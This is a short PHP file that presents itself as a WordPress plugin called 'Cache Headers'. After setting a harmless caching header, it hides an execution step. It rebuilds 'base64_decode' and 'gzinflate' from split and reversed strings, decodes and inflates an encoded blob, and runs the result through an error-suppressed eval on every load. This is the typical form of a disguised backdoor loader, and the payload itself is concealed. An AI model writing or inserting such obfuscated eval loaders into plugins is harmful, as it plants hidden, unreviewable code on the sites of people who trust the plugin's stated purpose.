<?php
/* Plugin Name: Cache Headers */
add_action('send_headers', function () { header('Cache-Control: public, max-age=300'); });
$blob = 'K64sLknN1VBKLi3KUdAtVsgoKSkottLXLy/QTU5MzkhNy6zQy0st0S9QqFEozlDStAYA';
$f = 'b' . 'ase' . '64_de' . 'code';
$g = strrev('etalfnizg');
@eval($g($f($blob)));
